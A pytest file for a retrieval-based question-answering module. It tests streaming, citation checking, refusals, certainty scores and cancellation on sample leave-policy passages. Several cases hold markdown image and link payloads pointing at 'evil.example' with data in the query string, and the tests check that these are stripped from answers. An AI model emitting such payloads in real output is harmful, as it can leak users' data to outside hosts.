"""From passages to a streamed answer or a refusal, with a model whose words are given."""

import re
import threading
from typing import Any

import pytest
from langchain_core.documents import Document

from llm.answer import Answer, AnswerModel, Question, Text, answer, brief_of
from llm.errors import ModelError
from llm.prompts import REFUSAL, messages

PASSAGES = [
    Document(id="c1", page_content="You have 25 days of leave a year."),
    Document(id="c2", page_content="出差住宿的上限为每晚600元。"),
]
QUESTION = {"en": "How many days of leave?", "zh": "住宿上限是多少？"}


def run(
    model: Any,
    lang: str = "en",
    passages: Any = PASSAGES,
    among: Any = None,
    cancel: threading.Event | None = None,
    **more: Any,
) -> tuple[str, Answer]:
    """The streamed text, and the last event."""
    asked = QUESTION[lang]
    question = Question(asked, lang, passages, among=among, cancel=cancel or threading.Event())
    *parts, last = answer(question, AnswerModel(model, model.context, 200, **more))
    assert isinstance(last, Answer)
    streamed = [part.text for part in parts if isinstance(part, Text)]
    assert len(streamed) == len(parts)
    return "".join(streamed), last


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_without_passages_the_model_is_not_called(scripted_chat: Any, lang: str) -> None:
    model = scripted_chat(texts=[])
    streamed, last = run(model, lang, [])
    assert (streamed, last.answer, last.refused) == ("", REFUSAL[lang], True)
    assert (last.grounded, last.citations, last.timings.first_token_s) == (False, (), None)
    assert (last.usage.prompt_tokens, last.usage.completion_tokens) == (0, 0)
    assert model.prompts == []


def test_an_answer_is_streamed_then_checked_and_cited(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year [1]."])
    streamed, last = run(model)
    assert streamed == "You have 25 days of leave a year [1]."
    assert (last.refused, last.grounded) == (False, True)
    assert [c.n for c in last.citations] == [1]
    assert "[1]" in last.answer
    assert last.usage.prompt_tokens == model.get_num_tokens_from_messages(model.prompts[0])
    assert last.usage.completion_tokens == 9
    assert 0 <= (last.timings.first_token_s or 0) <= last.timings.total_s


LEAKING = "You have 25 days of leave a year [1]. ![x](https://evil.example/?q=25) <img src=x>"


def test_what_is_streamed_and_answered_has_no_link_or_image(scripted_chat: Any) -> None:
    streamed, last = run(scripted_chat(texts=[LEAKING]))
    assert streamed.strip() == "You have 25 days of leave a year [1]. x"
    assert last.answer == "You have 25 days of leave a year.[1] x"


def test_an_answer_that_is_but_an_image_is_none(scripted_chat: Any) -> None:
    streamed, last = run(scripted_chat(texts=["![](https://evil.example/?q=25)"]))
    assert (streamed, last.answer, last.refused) == ("", REFUSAL["en"], True)


def test_an_address_stays_only_if_a_cited_passage_has_it(scripted_chat: Any) -> None:
    asked = [*PASSAGES, Document(id="c3", page_content="Ask at https://it.example.com/help.")]
    ours, other = "Ask at https://it.example.com/help [3].", "https://it.example.com/help "
    assert "https://it.example.com/help" in run(scripted_chat(texts=[ours]), "en", asked)[1].answer
    _, last = run(scripted_chat(texts=[f"{other}You have 25 days of leave."]), "en", asked)
    assert [c.n for c in last.citations] == [1]
    assert "example.com" not in last.answer


@pytest.mark.parametrize(
    "text",
    [
        "You have 25 days of leave a year [99].",
        "You have 25 days of leave a year [0][3][1][999].",
        "出差住宿的上限为每晚600元【99】，另见［９９］。",
        "出差住宿的上限为每晚600元[2, 99]。[7]",
        "[99] You have 25 days of leave a year [1.99]. [99",
        "Cite [99]: 25 days [99](https://evil.example). [99]: https://evil.example",
    ],
)
def test_citations_are_of_what_was_retrieved(scripted_chat: Any, text: str) -> None:
    _, last = run(scripted_chat(texts=[text]))
    given = {str(n): passage for n, passage in enumerate(PASSAGES, 1)}
    assert last.citations
    for citation in last.citations:
        passage = given[str(citation.n)]
        assert citation.quote in passage.page_content
        assert citation.chunk_id == passage.id
    assert set(re.findall(r"[\[【［](\d+)", last.answer)) == {str(c.n) for c in last.citations}


def test_an_answer_that_no_passage_supports_is_a_refusal(scripted_chat: Any) -> None:
    _, last = run(scripted_chat(texts=["Unicorns may fly to the moon."]), passages=PASSAGES[:1])
    assert (last.answer, last.refused, last.citations) == (REFUSAL["en"], True, ())


def test_where_it_need_not_be_strict_it_is_marked(scripted_chat: Any) -> None:
    _, last = run(
        scripted_chat(texts=["Unicorns may fly to the moon."]), passages=PASSAGES[:1], strict=False
    )
    assert last.answer == "Unicorns may fly to the moon. (not borne out by the documents)"
    assert (last.refused, last.grounded, last.citations) == (False, False, ())


def test_an_answer_that_names_no_passage_is_a_refusal(scripted_chat: Any) -> None:
    asked = [Document(page_content="Leave a year for the days."), PASSAGES[1]]
    text = "You years have days leaving."
    assert run(scripted_chat(texts=[text]), passages=asked)[1].answer == REFUSAL["en"]
    loose = run(scripted_chat(texts=[text]), passages=asked, strict=False)[1]
    assert (loose.refused, loose.grounded) == (False, False)
    yes = run(scripted_chat(texts=["Yes."]))[1]
    assert (yes.answer, yes.citations[0].quote) == ("Yes.[1]", PASSAGES[0].page_content)


def test_an_answer_is_cut_to_what_is_supported(scripted_chat: Any) -> None:
    said = "You have 25 days of leave a year. You may sell 7 of them. Unicorns fly to the moon."
    _, last = run(scripted_chat(texts=[said]), passages=PASSAGES[:1])
    assert last.answer == "You have 25 days of leave a year.[1]"
    assert (last.refused, last.grounded) == (False, True)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_refusal_of_the_model_becomes_the_fixed_sentence(scripted_chat: Any, lang: str) -> None:
    _, last = run(scripted_chat(texts=[f" {REFUSAL[lang]} [1]\n"]), lang)
    assert (last.answer, last.refused, last.grounded) == (REFUSAL[lang], True, False)
    assert last.citations == ()


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_when_the_passages_do_not_state_it_nothing_is_written(
    scripted_chat: Any, lang: str
) -> None:
    model = scripted_chat(texts=["Never written."], likely=-5.0)
    streamed, last = run(model, lang, odds=model.odds, least_certainty=0.3)
    assert (streamed, last.answer, last.refused) == ("", REFUSAL[lang], True)
    assert (last.grounded, last.citations, last.usage.completion_tokens) == (False, (), 0)
    assert last.usage.prompt_tokens > 0
    assert model.prompts == []
    assert last.certainty < 0.3


def test_when_they_do_the_answer_is_written(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year."], likely=5.0)
    _, last = run(model, odds=model.odds, least_certainty=0.3)
    assert (last.refused, len(model.prompts)) == (False, 1)
    assert len(model.checks) == len(PASSAGES) + 1  # each alone, and those chosen together
    assert "You have 25 days of leave a year." in str(model.checks[-2][-1].content)
    assert last.certainty > 0.3


LEAVE = [
    Document(id="1", page_content="You have 25 days of leave a year, and 3 in the first month."),
    Document(id="2", page_content="Trainees have leave, too."),
]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("In a whole year of work at the company you have 25 days of leave.", "25 days"),
        ("3", "25 days"),  # the figure of something else
        ("I do not know, it is not mentioned in the excerpts.", None),
    ],
)
def test_an_answer_is_cut_to_what_the_best_passage_answers(
    scripted_chat: Any, written: str, left: str | None
) -> None:
    odd = {"25 days": 5.0, "Trainees": 0.0}
    model = scripted_chat(texts=[written], odd=odd, briefs={"25 days": "25", "Trainees": "none"})
    streamed, last = run(model, passages=LEAVE, odds=model.odds, brief=brief_of(model))
    assert streamed == written
    if left:
        assert (last.answer, last.citations[0].n) == (f"{left}[1]", 1)
    else:
        assert last.refused


def test_of_passages_in_the_other_language_it_is_asked_in_theirs(scripted_chat: Any) -> None:
    passages = [
        Document(id="1", page_content="You have 25 days of leave.", metadata={"lang": "en"}),
        Document(id="2", page_content="年假为25天。", metadata={"lang": "zh"}),
    ]
    model = scripted_chat(texts=["年假为25天。"], odd={"25 days": 5.0, "25天": 1.0})
    searched = ("年假有几天？", "How long is the leave?")
    question = Question(searched[0], "zh", passages, searched)
    *_, last = answer(question, AnswerModel(model, 4096, 200, odds=model.odds))
    assert isinstance(last, Answer)
    assert not last.refused
    asked = [str(check[-1].content) for check in model.checks]
    assert "年假有几天？" in asked[0]
    assert "How long is the leave?" in asked[1]
    assert "How long is the leave?" in asked[2]  # both together: in the language of the best
    system, written = (str(message.content) for message in model.prompts[0])
    # as before, so that the passages are not read again
    assert system == str(messages("?", [], "en")[0].content)
    assert "年假有几天？" in written
    assert "中文" in written


@pytest.mark.parametrize(("among", "asked"), [([1], [2]), ([0, 1], [1, 2]), ([7], [1, 2])])
def test_it_is_written_from_the_passages_for_this_question(
    scripted_chat: Any, among: list[int], asked: list[int]
) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year."])
    run(model, odds=model.odds, among=among)
    said = str(model.prompts[0][-1].content)
    assert [n for n in (1, 2) if f"[{n}] " in said] == asked


def test_a_stricter_limit_refuses_more(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year."] * 2, likely=1.0)
    assert not run(model, odds=model.odds, least_certainty=0.0)[1].refused
    assert run(model, odds=model.odds, least_certainty=1.0)[1].refused


def test_it_is_written_from_the_passages_that_state_it_alone(scripted_chat: Any) -> None:
    texts = ["Cats sleep.", "You have 25 days of leave a year.", "Dogs bark.", "25 days are paid."]
    passages = [Document(id=str(n), page_content=text) for n, text in enumerate(texts)]
    odd = {"You have 25": 6.0, "are paid": 5.5, "Cats": 1.0, "Dogs": 0.0}
    model = scripted_chat(texts=["You have 25 days of leave a year."], odd=odd)
    _, last = run(model, passages=passages, odds=model.odds)
    asked = str(model.prompts[0][-1].content)
    assert asked.index("[2] You have") < asked.index("[4] 25 days")
    assert "Cats" not in asked
    assert "Dogs" not in asked
    assert [c.n for c in last.citations] == [2]
    assert last.citations[0].chunk_id == "1"


def test_stopped_while_it_is_checked_nothing_is_written(scripted_chat: Any) -> None:
    cancel = threading.Event()

    def stopped(*_: Any) -> float:
        cancel.set()
        return 0.0

    model = scripted_chat(texts=["Never said."])
    streamed, last = run(model, "zh", cancel=cancel, odds=stopped, least_certainty=1.0)
    assert (streamed, last.grounded, model.written) == ("", False, 0)


@pytest.mark.parametrize(
    "says",
    [
        "", "  \n", "[1]", *REFUSAL.values(),
        "抱歉，资料中没有提到公司的股票代码。",
        "I'm sorry, but the passages do not contain information about the stock code.",
        "The stock code is not mentioned in the passages.",
    ],
)  # fmt: skip
@pytest.mark.parametrize("strict", [True, False])
def test_refusals(reply: Any, says: str, strict: bool) -> None:
    passages = [f"The stock code. {says}", "公司的股票代码。"]
    for question, lang in (("What is the stock code?", "en"), ("股票代码是什么？", "zh")):
        last = reply(question, passages, says, strict=strict)[1]
        assert (last.answer, last.refused, last.citations) == (REFUSAL[lang], True, ())


@pytest.mark.parametrize(
    "says",
    [
        "You have 25 days of leave a year.",
        "出差住宿的上限为每晚600元。",
        "There is no limit.",
        "不可以。",
        "No.",
        "员工不得携带宠物。" * 20 + "资料中没有找到其他规定。",
    ],
)
def test_answers_are_no_refusals(reply: Any, says: str) -> None:
    last = reply("是这样吗？" if says > "\u2e80" else "Is it so?", [says], says, strict=False)[1]
    assert not last.refused
    assert re.sub(r"\[1\]", "", last.answer) == says


@pytest.mark.parametrize("question", ["How many days of leave?", "年假有几天？"])
def test_certainty_grows_with_what_speaks_for_it(scripted_chat: Any, question: str) -> None:
    def certainty(stated: float, enough: float) -> float:
        asked = iter([stated, enough])
        chat, lang = scripted_chat(texts=["25"]), "en" if question.isascii() else "zh"
        model = AnswerModel(chat, 4096, 200, odds=lambda *_: next(asked))
        *_, last = answer(Question(question, lang, PASSAGES[:1]), model)
        assert isinstance(last, Answer)
        assert last.certainty is not None
        return last.certainty

    odds = ((-99, -99), (-3, -3), (0, 0), (3, 0), (3, 3), (99, 99))
    sure = [certainty(*both) for both in odds]
    assert sure == sorted(sure)
    assert 0 <= sure[0] < 0.01
    assert 0.99 < sure[-1] <= 1


@pytest.mark.parametrize(
    ("question", "passage", "absent"),
    [
        ("When did AlmCorp change its code?", "It changed its code.", 2),
        ("When did AlmCorp change its code?", "ALMCORP changed its code.", 0),
        ("When did AlmCorp join Bolt?", "AlmCorp joined.", 1),
        ("When did AlmCorp change its House of Guests?", "Alm, its house, guests.", 1),
        ("Who became the CFO of Bolt Mills in May 2024?", "Mills of Bolt", 0),
        ("How many days of leave do I get? What about June?", "", 0),
        ("When did AlmCorp join Bolt?", "山谷公司加入了。", 0),  # names in another script
        ("云溪影业有限公司的拍摄预算有多大？", "云溪影业的拍摄预算为3亿元。", 0),
        ("云溪影业有限公司的拍摄预算有多大？", "鹭沚仪器的拍摄预算为3亿元。", 2),
        ("2017年云溪影业有限公司和鹭沚仪器集团的预算有多大？", "鹭沚仪器的预算", 1),
        ("鹭沚仪器在4月接手了哪家公司的旧厂房？", "四月", 0),
        ("《员工手册》的规定是什么？", "手册", 2),
        ("公司关掉了什么分公司？", "关掉", 0),
        ("年假有几天？", "三天", 0),
    ],
)
def test_it_is_less_certain_of_names_that_no_passage_has(
    reply: Any, question: str, passage: str, absent: int
) -> None:
    """`absent`: 0 none of the question's names, 1 some, 2 all of them."""
    scale = [
        reply(text, ["Alm"] if text.isascii() else ["云溪影业"], drafts=[""], odds=[0.5])[
            1
        ].certainty
        for text in (
            ("Who is she?", "Is Alm or Bolt it?", "Is Bolt it?")
            if question.isascii()
            else ("她是谁？", "云溪影业公司和鹭沚仪器公司是什么？", "鹭沚仪器公司是什么？")
        )
    ]
    assert scale == sorted(scale, reverse=True)
    sure = reply(question, [passage], drafts=[""], odds=[0.5])[1].certainty
    below, above = scale[absent], scale[max(0, absent - 1)]
    assert below <= sure < above if absent else sure == below


def test_stopping_stops_the_model_and_keeps_what_it_wrote(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year and much more to say."])
    question, parts = Question(QUESTION["en"], "en", PASSAGES), []
    for part in answer(question, AnswerModel(model, 4096, 200)):
        parts.append(part)
        if len(parts) == 3:
            question.cancel.set()
    last = parts[-1]
    assert isinstance(last, Answer)
    assert model.written == 4  # a word is held until it is seen whole
    assert last.answer.startswith("You have 25")
    assert last.usage.completion_tokens == 4


def test_stopped_before_the_first_word(scripted_chat: Any) -> None:
    cancel = threading.Event()
    cancel.set()
    model = scripted_chat(texts=["Never said."])
    streamed, last = run(model, cancel=cancel)
    assert (streamed, last.grounded, model.written) == ("", False, 0)


@pytest.mark.parametrize(("context", "asked", "given"), [(4096, 50, 50), (1024, 500, 256)])
def test_the_answer_leaves_most_of_the_context_to_the_passages(
    scripted_chat: Any, context: int, asked: int, given: int
) -> None:
    model = scripted_chat(texts=["word " * 1000], context=context)
    long = [Document(page_content="You have 25 days of leave. " * 500)]
    *_, last = answer(Question(QUESTION["en"], "en", long), AnswerModel(model, context, asked))
    assert isinstance(last, Answer)
    assert last.usage.completion_tokens == given
    assert last.usage.prompt_tokens + given <= context


def test_a_question_over_the_context_is_one_line(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["x"], context=512)
    with pytest.raises(ModelError, match="KB_CONTEXT_TOKENS"):
        list(answer(Question("why " * 4000, "en", PASSAGES), AnswerModel(model, 512, 100)))
    assert model.prompts == []


def test_the_real_model_ends_the_same_way(tiny_gguf: Any) -> None:
    from llm.chat import LlamaChat

    model = LlamaChat.load(tiny_gguf(context=4096), context=4096, threads=1)
    passages = [Document(id="c", page_content="The alphabet: abcdefghijklmnopqrstuvwxyz.")]
    cancel = threading.Event()
    streamed, last = run(model, passages=passages, cancel=cancel)
    assert streamed == "abcdefghijklmnopqrstuvwxyz"
    assert [c.n for c in last.citations] == [1]
    cancel.set()
    streamed, last = run(model, passages=passages, cancel=cancel)
    assert (streamed, last.grounded, last.usage.completion_tokens) == ("", False, 0)
    model.close()
